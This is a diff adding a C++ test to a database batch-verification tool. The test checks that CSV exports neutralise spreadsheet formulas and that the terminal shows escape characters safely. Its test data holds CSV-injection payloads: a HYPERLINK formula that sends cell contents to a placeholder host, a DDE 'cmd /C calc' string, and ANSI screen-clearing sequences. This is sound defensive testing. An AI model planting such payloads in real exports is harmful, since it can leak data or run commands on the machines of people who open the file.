@@ -99,6 +99,54 @@ TEST(BatchVerify, ExitsTwoWhenItCannotStart) {
     EXPECT_EQ(sample.program.run({"--conferir", "--tabelas", "clientes", "--sim"}).status, 2);
 }
 
+TEST(BatchVerify, TextsFromTheDatabasesReachTheCsvFilesAsTextAndTheTerminalWithTheirControlsShown) {
+    // Seller 4's name is a formula too long for VEN_NOME: refused, and in recusadas.csv.
+    const TestDatabase source(schemaFile("tavlo-schema.sql") +
+                              "\nINSERT INTO VENDEDOR (ID, NOME) VALUES (1, 'Ana');\n"
+                              "INSERT INTO VENDEDOR (ID, NOME) VALUES (2, 'Bia');\n"
+                              "INSERT INTO VENDEDOR (ID, NOME) VALUES (3, 'Caio');\n"
+                              "INSERT INTO VENDEDOR (ID, NOME) VALUES "
+                              "(4, '=HYPERLINK(\"http://exemplo.invalido/?dados=\"&A1;\"clique aqui para ver\")');\n"
+                              "INSERT INTO VENDEDOR (ID, NOME) VALUES (5, '@SUM(1+1)');\n");
+    const TestDatabase destination(schemaFile("merak-schema.sql"));
+    const BatchProgram program;
+    program.writeSettings(source.path(), destination.path());
+    const BatchResult run = program.run({"--tabelas", "vendedores", "--sim", "--sem-copia"});
+    ASSERT_EQ(run.status, 1) << run.out << run.err;
+    const std::string refused = readFile(program.folder() + "recusadas.csv");
+    EXPECT_TRUE(has(refused,
+                    "\r\nVENDEDOR;4;VEN_NOME;\"'=HYPERLINK(\"\"http://exemplo.invalido/?dados=\"\"&A1;"
+                    "\"\"clique aqui para ver\"\")\";"))
+        << refused;
+
+    destination.run(
+        "UPDATE VENDEDOR SET VEN_NOME = '+cmd|'' /C calc''!A0' WHERE VEN_CODIGO = 1;\n"
+        "UPDATE VENDEDOR SET VEN_NOME = '-5' WHERE VEN_CODIGO = 2;\n"
+        "UPDATE VENDEDOR SET VEN_NOME = 'Zé' || ASCII_CHAR(27) || '[2J' || ASCII_CHAR(7) || ASCII_CHAR(13) "
+        "WHERE VEN_CODIGO = 3;\n"
+        "UPDATE VENDEDOR SET VEN_NOME = 'Eva' WHERE VEN_CODIGO = 5;\n"
+        "COMMIT;\n");
+    const BatchResult compared = program.run({"--conferir", "--tabelas", "vendedores"});
+    EXPECT_EQ(compared.status, 1) << compared.out << compared.err;
+    EXPECT_TRUE(
+        has(compared.out, "  diferente  chave 3, VEN_NOME: mapeamento \"Caio\", destino \"Zé\\x1b[2J\\x07\\x0d\"\n"))
+        << compared.out;
+    EXPECT_TRUE(has(compared.out, "  ausente    chave 4: Texto longo demais para VEN_NOME (máximo 50)\n"))
+        << compared.out;
+    for (const char control : {'\x1b', '\a', '\r'})
+        EXPECT_EQ(compared.out.find(control), std::string::npos) << static_cast<int>(control);
+
+    // A formula starts with an apostrophe; a number and any other text stay as they are.
+    const std::string csv = readFile(program.folder() + "conferencia.csv");
+    for (const std::string& line : std::vector<std::string>{
+             "\r\nVENDEDOR;1;diferente;VEN_NOME;Ana;'+cmd|' /C calc'!A0;\r\n",
+             "\r\nVENDEDOR;2;diferente;VEN_NOME;Bia;-5;\r\n",
+             "\r\nVENDEDOR;3;diferente;VEN_NOME;Caio;\"Zé\x1b[2J\a\r\";\r\n",
+             "\r\nVENDEDOR;5;diferente;VEN_NOME;'@SUM(1+1);Eva;\r\n",
+         })
+        EXPECT_TRUE(has(csv, line)) << line << "\n" << csv;
+}
+
 // The sample databases with the first source row of each table renumbered to a key above the
 // others: rows that do not come in key order, so that each sequence restarts below the
 // highest key its table holds.
